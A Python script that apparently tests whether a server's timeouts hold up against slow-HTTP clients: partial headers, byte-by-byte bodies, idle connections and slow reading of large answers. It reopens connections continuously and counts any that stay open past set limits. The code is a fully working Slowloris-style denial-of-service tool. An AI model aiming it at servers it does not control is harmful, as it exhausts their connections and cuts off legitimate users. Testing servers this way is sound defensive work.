"""Clients that hold a server up: half a header, a body byte by byte, silence, an answer hardly read."""

from __future__ import annotations

import asyncio
import json
import socket
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import asdict, dataclass, field
from urllib.parse import urlsplit

CLOSED_SECONDS = 15.0
"""What stays open longer after its opening has got away with it."""
READERS_SECONDS = 45.0
"""As CLOSED_SECONDS, for who hardly reads a large answer: 10 s for its first byte, then two looks of 10 s."""
BYTES_A_SECOND = 1_000
WINDOW_BYTES = 4_096
AGAIN_SECONDS = 0.2
BODY = "Content-Type: application/json\r\nContent-Length: 9000\r\n\r\n{"


@dataclass(frozen=True)
class Order:
    """What to do, as one line of JSON: for so many seconds that many of each kind at a time.

    `large` is a path that answers with a stream of more than a kernel keeps, `page` one with a whole answer
    of that size, `written` one that takes a body; all three with the key.
    """

    url: str
    seconds: float
    counts: Mapping[str, int]
    large: str = ""
    page: str = ""
    written: str = "/v1/setup"
    key: str = ""


@dataclass
class Kind:
    """What became of one kind: how often a connection was opened and closed, and how long it stayed."""

    opened: int = 0
    closed: int = 0
    refused: int = 0
    longest: float = 0.0
    overdue: int = 0
    """Stayed open longer than is allowed."""

    def ended(self, seconds: float, allowed: float, *, closed: bool) -> None:
        """One connection has been closed by the server, or was still open when the attack was over."""
        self.closed += closed
        self.longest = max(self.longest, seconds)
        self.overdue += seconds > allowed


@dataclass
class Line:
    """One connection of an attacker."""

    order: Order
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def trickle(self, first: bytes, more: bytes, pause: float) -> None:
        """Send `more` again and again, until the server closes."""
        self.writer.write(first)
        while True:
            try:
                async with asyncio.timeout(pause):
                    if not await self.reader.read(4_096):
                        return
            except TimeoutError:
                self.writer.write(more)

    async def ask(self, path: str) -> None:
        """Ask for an answer and read it by and by, or not at all."""
        head = f"GET {path} HTTP/1.1\r\nHost: x\r\nX-API-Key: {self.order.key}\r\n\r\n"
        self.writer.write(head.encode())
        while await self.reader.read(BYTES_A_SECOND):  # noqa: ASYNC110 (its pace: nothing is waited for)
            await asyncio.sleep(1)


async def _half_a_header(line: Line) -> None:
    await line.trickle(b"GET /v1/me HTTP/1.1\r\nHost: x\r\n", b"X-More: yes\r\n", 4)


async def _slow_body(line: Line) -> None:
    order = line.order
    head = f"POST {order.written} HTTP/1.1\r\nHost: x\r\nX-API-Key: {order.key}\r\n{BODY}"
    await line.trickle(head.encode(), b" ", 1)


async def _silence(line: Line) -> None:
    await line.trickle(b"", b"", 60)


async def _slow_export(line: Line) -> None:
    await line.ask(line.order.large)


async def _slow_page(line: Line) -> None:
    await line.ask(line.order.page)


KINDS: dict[str, tuple[Callable[[Line], Awaitable[None]], float]] = {
    "half a header": (_half_a_header, CLOSED_SECONDS),
    "slow body": (_slow_body, CLOSED_SECONDS),
    "idle": (_silence, CLOSED_SECONDS),
    "slow export": (_slow_export, READERS_SECONDS),
    "slow page": (_slow_page, READERS_SECONDS),
}


@dataclass
class Attack:
    """All of them at once, each opened again when it was closed."""

    order: Order
    found: dict[str, Kind] = field(default_factory=dict)

    async def run(self) -> dict[str, Kind]:
        """For as long as ordered; who is open at the end is counted as long as it was open."""
        parts = urlsplit(self.order.url)
        self._address = (parts.hostname or "", parts.port or 80)
        tasks = [
            asyncio.create_task(self._again_and_again(name))
            for name, count in self.order.counts.items()
            for _ in range(count)
        ]
        await asyncio.sleep(self.order.seconds)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return self.found

    async def _again_and_again(self, name: str) -> None:
        act, allowed = KINDS[name]
        kind = self.found.setdefault(name, Kind())
        while True:
            try:
                line = await self._open()
            except OSError:
                kind.refused += 1
                await asyncio.sleep(AGAIN_SECONDS)
                continue
            kind.opened += 1
            await self._one(line, act, kind, allowed)

    async def _one(
        self, line: Line, act: Callable[[Line], Awaitable[None]], kind: Kind, allowed: float
    ) -> None:
        began = time.monotonic()
        try:
            await act(line)
        except OSError:  # it was reset
            pass
        except asyncio.CancelledError:
            kind.ended(time.monotonic() - began, allowed, closed=False)
            raise
        finally:
            line.writer.transport.abort()
        kind.ended(time.monotonic() - began, allowed, closed=True)

    async def _open(self) -> Line:
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, WINDOW_BYTES)
        made.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(made, self._address)
            reader, writer = await asyncio.open_connection(sock=made, limit=BYTES_A_SECOND)
        except BaseException:
            made.close()
            raise
        return Line(self.order, reader, writer)


def main(text: str) -> None:
    """Attack as ordered and say what came of it."""
    found = asyncio.run(Attack(Order(**json.loads(text))).run())
    print(json.dumps({name: asdict(kind) for name, kind in found.items()}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
